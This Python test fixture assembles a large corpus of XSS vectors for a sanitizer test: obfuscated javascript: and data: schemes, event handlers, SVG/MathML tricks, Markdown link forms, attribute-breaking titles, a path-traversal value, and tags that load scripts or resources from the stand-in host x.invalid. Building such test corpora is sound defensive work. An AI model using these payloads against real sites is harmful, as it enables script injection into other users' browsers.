"""XSS vectors for the oracle (tests/e2e/test_xss_oracle.py): script and event-handler variants,
SVG/MathML namespaces, obfuscated schemes, srcdoc, meta refresh, base, form/formaction, CSS
url(), remote stylesheets and images, Markdown link/image/reference/autolink forms, and
attribute breaking through titles. Every payload calls alert/confirm/prompt or loads something
from outside, so the browser shows it if it runs. Built from parts so the corpus stays readable;
``VECTORS`` has no duplicates."""

from __future__ import annotations

RUN = ["alert(1)", "confirm(1)", "prompt(1)", "top['al'+'ert'](1)", "fetch('https://x.invalid/')"]
SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "java&#x09;script:alert(1)", "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)", "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)",
    "\x01javascript:alert(1)", "javascript://%0aalert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "livescript:alert(1)", "jav&#x0A;ascript:alert(1)", "javas\x00cript:alert(1)",
]  # fmt: skip
HANDLERS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart",
            "ontoggle", "onbegin", "onpointerdown", "onauxclick"]  # fmt: skip

_tags = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=https://x.invalid/a.js></script>",
    "<script>/*</script><script>*/alert(1)</script>", "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>", "<script\x20type='text/javascript'>alert(1)</script>",
    "<script type=module>alert(1)</script>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><script>alert(1)</script></svg>", "<svg onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href=\"javascript:alert(1)\">x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe src=\"https://www.youtube-nocookie.com/embed/x\" srcdoc=\"<img src=x onerror=alert(1)>\"></iframe>",
    "<iframe src=\"https://evil.invalid\\@www.youtube-nocookie.com/embed/x\"></iframe>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<meta http-equiv=refresh content=\"0; url=https://x.invalid/\">",
    "<base href=\"https://x.invalid/\">", "<base href=\"javascript:alert(1)//\">",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>", "<form><button formaction=\"javascript:alert(1)\">go</button></form>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>", "<input autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>", "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">", "<link rel=stylesheet href=https://x.invalid/s.css>",
    "<link rel=import href=https://x.invalid/i.html>", "<style>@import 'https://x.invalid/s.css';</style>",
    "<style>body{background:url(https://x.invalid/b.png)}</style>", "<p style=\"background:url(https://x.invalid/c.png)\">x</p>",
    "<td style=\"background-image:url('https://x.invalid/t.png')\">x</td>", "<div style=\"width:expression(alert(1))\">x</div>",
    "<img src=https://x.invalid/p.gif>", "<img srcset=\"https://x.invalid/s.gif 1x\">", "<picture><source srcset=https://x.invalid/q.gif><img></picture>",
    "<video poster=https://x.invalid/v.png></video>", "<audio src=https://x.invalid/a.mp3 autoplay></audio>",
    "<video><source onerror=alert(1)></video>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>", "<x onclick=alert(1)>click</x>", "<a href=\"#\" onclick=\"alert(1)\">x</a>",
    "<img src=x onerror=alert(1)//", "<img src=\"x\" alt=\"\" onerror=\"alert(1)\">", "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>", "<img src=x:alert(1) onerror=eval(src)>",
    "<a href=\"javascript&#58;alert(1)\">x</a>", "<a href=\"  javascript:alert(1)\">x</a>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<area href=javascript:alert(1)>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"https://x.invalid/\" ping=\"https://x.invalid/ping\">x</a>", "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>", "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><img src=x onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>", "<?xml version=1?><img src=x onerror=alert(1)>", "<p id=article-body onclick=alert(1)>x</p>",
    "<div data-x=\"\" onmouseover=alert(1)>x</div>", "<a id=top name=x href=javascript:alert(1)>x</a>",
    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
    "</title><script>alert(1)</script>", "</script><script>alert(1)</script>", "</style><img src=x onerror=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>", "{{7*7}}{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
    "{% raw %}<script>alert(1)</script>{% endraw %}", "\u2028<script>alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<svg><style><img src=x onerror=alert(1)></style></svg>",
]  # fmt: skip
_markdown = [
    "[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))", "[x](<javascript:alert(1)>)", "[x]( javascript:alert(1) )",
    "[x](javascript&#58;alert(1))", "[x](java%0ascript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))", "![x](javascript:alert(1))", "![x](https://x.invalid/img.png)", "![x](//x.invalid/img.png)",
    "![x](x \"onerror=alert(1)\")", "[x](https://ok.example \"\\\" onmouseover=\\\"alert(1)\")",
    "[x](https://ok.example 'a\" onclick=\"alert(1)')", "[x][r]\n\n[r]: javascript:alert(1)", "![x][r]\n\n[r]: https://x.invalid/r.png",
    "[x][r]\n\n[r]: javascript:alert(1) \"t\"", "<javascript:alert(1)>", "<https://x.invalid/\"onmouseover=\"alert(1)>",
    "<mailto:a@x.invalid?body=<script>alert(1)</script>>", "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[x](https://ok.example){: onclick=\"alert(1)\"}", "{: onmouseover=alert(1) }\n# Title", "![x](photo:../../etc/passwd)",
    "![x](photo:1\" onerror=\"alert(1))", "[x](#\" onclick=\"alert(1))", "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`", "> <script>alert(1)</script>", "* <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "[^1]\n\n[^1]: <script>alert(1)</script>",
    "*[HTML]: <script>alert(1)</script>\nHTML", "==<img src=x onerror=alert(1)>==", "~~<svg onload=alert(1)>~~",
    "<details><summary>s</summary><img src=x onerror=alert(1)></details>", "https://x.invalid/\"><script>alert(1)</script>",
    "<div markdown=1>[x](javascript:alert(1))</div>", "[x](https://x.invalid/ \"</a><script>alert(1)</script>\")",
]  # fmt: skip


def _build() -> list[str]:
    vectors: list[str] = []

    def add(v: str) -> None:
        if v not in vectors:
            vectors.append(v)

    for v in _tags + _markdown:
        add(v)
    for scheme in SCHEMES:
        add(scheme)  # as a bare value (the URL settings) ...
        add(f'<a href="{scheme}">link</a>')  # ... and as a link in HTML
        add(f"[link]({scheme})")  # ... and in Markdown
    for handler in HANDLERS:
        add(f"<img src=x {handler}=alert(1)>")
        add(f"<svg {handler}=alert(1)>")
    for run in RUN:
        add(f"<script>{run}</script>")
        add(f'<img src=x onerror="{run}">')
    return vectors


VECTORS = _build()
